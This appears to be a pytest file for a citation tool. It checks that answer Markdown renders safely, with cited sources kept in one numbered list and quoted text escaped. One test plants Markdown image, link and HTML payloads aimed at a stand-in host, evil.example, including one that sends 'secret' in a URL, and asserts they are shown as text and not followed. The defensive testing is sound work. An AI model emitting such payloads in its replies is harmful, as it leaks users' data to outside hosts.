"""The chat reply's Markdown (issue 38, item 4), rendered by a real CommonMark renderer (markdown-it-py,
the one rich uses): the sources are one numbered list whose numbers are the markers the text shows,
in reading order; a quoted sentence with line breaks, a '#', a '|' or an HTML tag stays inside its
list item as text; the status is one sentence in words with its code."""

from __future__ import annotations

import dataclasses
import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from citegraph.models import (
    Answer,
    AnswerStatus,
    AnswerWarning,
    Citation,
    Claim,
    ClaimStatus,
    ContextItem,
    Evidence,
    Lead,
    Retrieval,
    Span,
    Stage,
    Support,
    Verdict,
)
from citegraph.output.markdown import answer_markdown, defuse, escape

RENDER = MarkdownIt("commonmark")


def _span(text: str, start: int = 0, document: str = "guide.pdf") -> Span:
    return Span(document, "0123456789abcdef", start, start + len(text), text)


def _answer(status: AnswerStatus = AnswerStatus.QUOTED) -> Answer:
    hotel = _span("The hotel limit is\nEUR 160 per night | outside London # and <b>Paris</b>.", 100)
    meals = _span("Meals: EUR 45 for each *full* day away.", 400)
    context = (
        ContextItem(1, Evidence(_span("Travel policy", 0), 0.9, 0.9, "passage")),
        ContextItem(2, Evidence(_span("Unrelated line.", 50), 0.8, 0.8, "passage")),
        ContextItem(3, Evidence(hotel, 0.7, 0.7, "passage")),
        ContextItem(4, Evidence(meals, 0.6, 0.6, "passage")),
    )
    support = Support(Verdict.SUPPORTED, None, "quote", ("exact_quote",), Stage.QUOTE)
    claims = (
        Claim(hotel.text, "x [3]", ClaimStatus.SUPPORTED, (Citation(3, hotel, support, found_by="passage"),), (3,)),
        Claim(meals.text, "y [4]", ClaimStatus.SUPPORTED, (Citation(4, meals, support, found_by="passage"),), (4,)),
    )
    return Answer(
        "What can I spend?",
        "The hotel limit is EUR 160 per night [3]. Meals are EUR 45 a day [4].",
        status,
        context,
        claims,
        (
            AnswerWarning("stale", "guide.pdf is older than the policy <v2>"),
            AnswerWarning("conflict", "[3] says EUR 160, [2] says EUR 200"),
        ),
        Retrieval("What can I spend?", (), 2, (), tuple(c.evidence for c in context)),
        (),
        lead=Lead("EUR 160", 3, 0.9, _span("EUR 160", 119)),
    )


class _Items(HTMLParser):
    """The text of each <li> of each <ol> (not of a <ul>: the warnings), and every tag seen."""

    def __init__(self) -> None:
        super().__init__()
        self.lists: list[list[str]] = []
        self.tags: list[str] = []
        self._in_item = False
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag in ("ol", "ul"):
            self._open.append(tag)
            if tag == "ol":
                self.lists.append([])
        elif tag == "li" and self._open[-1] == "ol":
            self._in_item = True
            self.lists[-1].append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "li":
            self._in_item = False
        elif tag in ("ol", "ul"):
            self._open.pop()

    def handle_data(self, data: str) -> None:
        if self._in_item:
            self.lists[-1][-1] += data


def _rendered(markdown: str) -> _Items:
    parsed = _Items()
    parsed.feed(RENDER.render(markdown))
    return parsed


def test_sources_are_one_numbered_list_in_reading_order_matching_the_markers() -> None:
    reply = answer_markdown(_answer())
    # the text cites context items 3 and 4: shown as [1] and [2], the order a reader meets them
    assert "EUR 160 per night [1]" in reply and "EUR 45 a day [2]" in reply and "[3]" not in reply
    assert reply.startswith("**EUR 160** [1]")
    parsed = _rendered(reply)
    assert len(parsed.lists) == 1 and len(parsed.lists[0]) == 2
    first, second = parsed.lists[0]
    assert "The hotel limit is EUR 160 per night | outside London # and <b>Paris</b>." in first  # one line, as text
    assert "Meals: EUR 45 for each *full* day away." in second
    assert all("guide.pdf" in item and "supported" in item for item in parsed.lists[0])
    assert "b" not in parsed.tags and "h1" not in parsed.tags and "table" not in parsed.tags  # nothing in a quote became markup
    assert RENDER.render(reply).count("<ol") == 1


def test_the_status_is_one_sentence_in_words_with_its_code() -> None:
    reply = answer_markdown(_answer())
    status = next(line for line in reply.splitlines() if "`quoted`" in line)
    assert re.fullmatch(r"_Quoted: [^.]+\._ \(`quoted`\)", status)
    assert "- guide.pdf is older than the policy \\<v2\\> (`stale`)" in reply
    assert "&lt;v2&gt;" in RENDER.render(reply)  # the warning's angle brackets shown, not read as a tag
    # a warning names context items by the reply's numbers: [3] is cited as [1]; [2] is not cited
    assert "- [1] says EUR 160, [context 2] says EUR 200 (`conflict`)" in reply


def test_a_not_found_reply_lists_the_nearest_evidence_as_context_only() -> None:
    reply = answer_markdown(_answer(AnswerStatus.NOT_FOUND))
    parsed = _rendered(reply)
    assert "Nearest evidence" in reply and len(parsed.lists) == 1 and len(parsed.lists[0]) == 3
    assert "EUR 160 per night" not in reply.split("Nearest evidence")[0] and "**EUR 160**" not in reply  # no answer is written


@pytest.mark.parametrize("text", ["a *b* _c_ `d` [e](f) <g> | # + ! ~ \\", "line\none\r\n  two", "$150 to $200 [1]"])
def test_escaped_text_renders_as_itself_on_one_line(text: str) -> None:
    html = RENDER.render(escape(text))
    assert "\\[" not in escape(text)  # an escaped bracket is display math to a chat front end with KaTeX (Open WebUI)
    assert "\\$" in escape(text) or "$" not in text  # "$…$" is inline math there
    assert html.startswith("<p>") and html.count("<p>") == 1 and "<em>" not in html and "<code>" not in html and "<a " not in html


@pytest.mark.parametrize(
    "planted",
    [
        "![x](https://evil.example/?d=secret)",
        "[a [b] c](http://evil.example)",
        "<img src='https://evil.example/x.png'>",
        "[x]: https://evil.example",
    ],
)
def test_no_link_image_or_html_in_a_models_text_or_a_quote_is_followed(planted: str) -> None:
    # a model's text as the reply carries it, and a quoted sentence as a source line does
    for rendered in (RENDER.render(defuse(planted)), RENDER.render(f"1. doc.md: “{escape(planted)}”")):
        assert "<a " not in rendered and "<img" not in rendered and "evil.example" in rendered  # shown as text, not followed


def test_a_warning_names_an_uncited_context_item_once() -> None:
    stale = AnswerWarning("stale", "context item [2] is from a stale source", ())
    reply = answer_markdown(dataclasses.replace(_answer(), warnings=(stale,)))
    assert "- [context 2] is from a stale source (`stale`)" in reply and "context item" not in reply
